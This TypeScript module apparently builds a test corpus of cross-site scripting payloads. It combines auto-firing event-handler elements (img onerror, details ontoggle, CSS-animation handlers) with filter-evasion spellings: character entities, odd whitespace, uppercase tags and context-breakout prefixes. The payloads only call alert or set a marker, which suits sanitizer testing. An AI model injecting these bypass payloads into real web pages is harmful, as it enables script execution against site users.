/**
 * Texts that run by themselves where text is taken for HTML, each element in each spelling that filters have been passed by. Lists of others
 * have few of them: most of theirs need a script tag, which `innerHTML` does not run, somebody who presses, or a browser of the past.
 */

type Attributes = readonly (readonly [name: string, value: string])[];

/** An element that runs its handler without anybody's doing, and what it needs for that. */
interface Carrier {
  readonly tag: string;
  readonly handler: string;
  readonly attributes: Attributes;
  readonly around?: string;
  readonly after?: string;
}

const CARRIERS: readonly Carrier[] = [
  {tag: 'img', handler: 'onerror', attributes: [['src', 'x']]},
  {tag: 'image', handler: 'onerror', attributes: [['src', 'x']]},
  {tag: 'details', handler: 'ontoggle', attributes: [['open', 'open']], after: 'x</details>'},
  {tag: 'video', handler: 'onerror', attributes: [['src', 'x']], after: '</video>'},
  {tag: 'audio', handler: 'onerror', attributes: [['src', 'x']], after: '</audio>'},
  {tag: 'iframe', handler: 'onload', attributes: [], after: '</iframe>'},
  {tag: 'input', handler: 'onerror', attributes: [['type', 'image'], ['src', 'x']]},
  {tag: 'link', handler: 'onerror', attributes: [['rel', 'stylesheet'], ['href', 'x']]},
  {tag: 'style', handler: 'onload', attributes: [], after: 'x{}</style>'},
  {tag: 'object', handler: 'onerror', attributes: [['data', 'x']], after: '</object>'},
  {around: '<video>', tag: 'source', handler: 'onerror', attributes: [['src', 'x']], after: '</video>'},
  {around: '<style>@keyframes y{}</style>', tag: 'b', handler: 'onanimationstart', attributes: [['style', 'animation-name:y']], after: 'y</b>'},
];

/** What each would run, by turns; without spaces and quotes, for it may stand without quotes or within them. */
const CALLS: readonly string[] = [
  'alert(1)', 'alert`1`', '(alert)(1)', 'top[`al`+`ert`](1)', '\\u0061lert(1)', 'window.__pwned=1', '[1].find(alert)', 'Reflect.apply(alert,1,[])',
];

const inNumbers = (text: string, write: (code: number) => string): string => [...text].map((sign) => write(sign.charCodeAt(0))).join('');
const decimal = (text: string): string => inNumbers(text, (code) => `&#${code};`);
const hexadecimal = (text: string): string => inNumbers(text, (code) => `&#x${code.toString(16)};`);
const padded = (text: string): string => inNumbers(text, (code) => `&#${String(code).padStart(7, '0')};`);
const named = (text: string): string => text.replace(/[()`='[\]]/g, (sign) => ({'(': '&lpar;', ')': '&rpar;', '`': '&grave;', '=': '&equals;', "'": '&apos;', '[': '&lsqb;', ']': '&rsqb;'})[sign] ?? sign);

/** How one is written: what stands between, around and before its parts. */
interface Spelling {
  readonly between?: string;
  readonly quote?: string;
  readonly equals?: string;
  readonly before?: string;
  readonly write?: (code: string) => string;
  readonly shout?: boolean;
}

const SPELLINGS: readonly Spelling[] = [
  {}, {quote: '"'}, {quote: "'"}, {shout: true}, {shout: true, quote: '"', write: hexadecimal},
  {between: '/', quote: '"'}, {between: '\n'}, {between: '\t'}, {between: '\f'}, {between: '\r\n'}, {between: '/ /', quote: '"'}, {between: ' \0 ', quote: "'"},
  {equals: ' = '}, {equals: '\n=\t', quote: '"'},
  {write: decimal}, {write: hexadecimal}, {write: padded, quote: '"'}, {write: named, quote: '"'},
  {before: '">'}, {before: "'>"}, {before: '-->'}, {before: ']]>'}, {before: '</title></textarea></style></script>'}, {before: '<<'},
  {before: '<a title="">'}, {before: '<!--><!---->'}, {before: '<svg></p>'},
];

function spell({around = '', tag, handler, attributes, after = ''}: Carrier, {between = ' ', quote = '', equals = '=', before = '', write = (code) => code, shout = false}: Spelling, call: string): string {
  const name = (text: string): string => (shout ? text.toUpperCase() : text);
  const written = [...attributes, [handler, write(call)] as const].map(([key, value]) => `${between}${name(key)}${equals}${quote}${value}${quote}`);
  return `${before}${around}<${name(tag)}${written.join('')}${quote ? '' : ' '}>${after}`;
}

export const SPELLED_SCRIPTS: readonly string[] = CARRIERS.flatMap((carrier, row) =>
  SPELLINGS.map((spelling, column) => spell(carrier, spelling, CALLS[(row + column) % CALLS.length] ?? '')));
